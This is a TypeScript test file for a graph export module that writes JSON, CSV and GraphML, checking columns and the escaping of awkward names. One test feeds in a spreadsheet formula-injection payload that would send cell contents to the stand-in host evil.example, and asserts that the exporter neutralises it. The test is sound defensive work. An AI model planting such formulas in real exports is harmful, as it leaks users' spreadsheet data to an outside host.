import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvParse } from 'd3';
import { XMLParser } from 'fast-xml-parser';
import { SyntaxValidator } from 'fast-xml-validator';
import { toEdgesCsv, toGraphML, toJson, toNodesCsv } from '../../../src/lib/graph/export.ts';
import { layoutGraph } from '../../../src/lib/graph/layout-graph.ts';
import { buildGraph, type Graph } from '../../../src/lib/graph/model.ts';
import { seedGraphInput } from './seed-input.ts';

const seeds = buildGraph(seedGraphInput());
const layout = layoutGraph(seeds);

// Names with every character CSV and XML treat specially.
const awkward: Graph = {
  nodes: [
    { ...seeds.nodes.find((n) => n.id === 'c40')!, name: { id: 'C40 "Kota", <Besar> & Co', en: 'Line\nbreak, comma' } },
    { ...seeds.nodes.find((n) => n.type === 'engagement')! },
  ],
  edges: [{ source: 'c40', target: seeds.nodes.find((n) => n.type === 'engagement')!.id, relation: 'partner' }],
};

describe('exports', () => {
  it('JSON holds every node with its measures and position, and every edge', () => {
    const data = JSON.parse(toJson(seeds, layout)) as { nodes: { id: string; degree: number; x: number }[]; edges: unknown[] };
    assert.equal(data.nodes.length, seeds.nodes.length);
    assert.equal(data.edges.length, seeds.edges.length);
    assert.deepEqual(data.nodes.find((n) => n.id === 'jakarta')?.x, 0);
  });

  it('JSON keeps its fields: a name’s language is markup for the pages, not a field of the data', () => {
    const untranslated: Graph = { nodes: [{ ...seeds.nodes[0]!, nameLang: { en: 'id' } }], edges: [] };
    const [data] = (JSON.parse(toJson(untranslated)) as { nodes: Record<string, unknown>[] }).nodes;
    assert.deepEqual(Object.keys(data!), Object.keys(seeds.nodes[0]!));
  });

  it('CSV has the documented columns and round-trips awkward names', () => {
    const nodes = csvParse(toNodesCsv(seeds, layout));
    assert.deepEqual(nodes.columns, ['id', 'type', 'kind', 'name_id', 'name_en', 'country', 'longitude', 'latitude', 'date', 'degree', 'events', 'years', 'x', 'y']);
    assert.equal(nodes.length, seeds.nodes.length);
    assert.equal(nodes.find((n) => n['id'] === 'buenos-aires')?.['country'], 'AR');
    const edges = csvParse(toEdgesCsv(seeds));
    assert.deepEqual(edges.columns, ['source', 'target', 'relation']);
    assert.equal(edges.length, seeds.edges.length);
    const tricky = csvParse(toNodesCsv(awkward).replaceAll('\r\n', '\n'));
    assert.equal(tricky[0]?.['name_id'], 'C40 "Kota", <Besar> & Co');
    assert.equal(tricky[0]?.['name_en'], 'Line\nbreak, comma');
  });

  it('CSV keeps a name a spreadsheet would run as a formula as text, and numbers as numbers', () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A2,"C40")';
    const named: Graph = { ...awkward, nodes: [{ ...awkward.nodes[0]!, name: { id: formula, en: '@SUM(1)' } }, awkward.nodes[1]!] };
    const [row] = csvParse(toNodesCsv(named));
    assert.equal(row?.['name_id'], `'${formula}`);
    assert.equal(row?.['name_en'], "'@SUM(1)");
    const [southern] = csvParse(toNodesCsv(seeds, layout)).filter((n) => n['id'] === 'buenos-aires');
    assert.match(southern?.['longitude'] ?? '', /^-58\./);
  });

  it('GraphML is well-formed XML with typed keys, every node and every edge', () => {
    for (const graph of [seeds, awkward]) {
      const text = toGraphML(graph, layout);
      assert.doesNotThrow(() => SyntaxValidator.validate(text));
      const doc = new XMLParser({ ignoreAttributes: false, isArray: (name) => ['node', 'edge', 'key', 'data'].includes(name) }).parse(text) as {
        graphml: { key: { '@_id': string; '@_attr.type': string }[]; graph: { node: { '@_id': string; data: { '#text': string | number; '@_key': string }[] }[]; edge: unknown[] } };
      };
      assert.equal(doc.graphml.graph.node.length, graph.nodes.length);
      assert.equal(doc.graphml.graph.edge.length, graph.edges.length);
      assert.equal(doc.graphml.key.find((k) => k['@_id'] === 'degree')?.['@_attr.type'], 'double');
    }
    const c40 = new XMLParser({ ignoreAttributes: false, isArray: (name) => name === 'data' }).parse(toGraphML(awkward)) as { graphml: { graph: { node: { data: { '#text': string; '@_key': string }[] }[] } } };
    assert.equal(c40.graphml.graph.node[0]?.data.find((d) => d['@_key'] === 'name_id')?.['#text'], 'C40 "Kota", <Besar> & Co');
  });
});
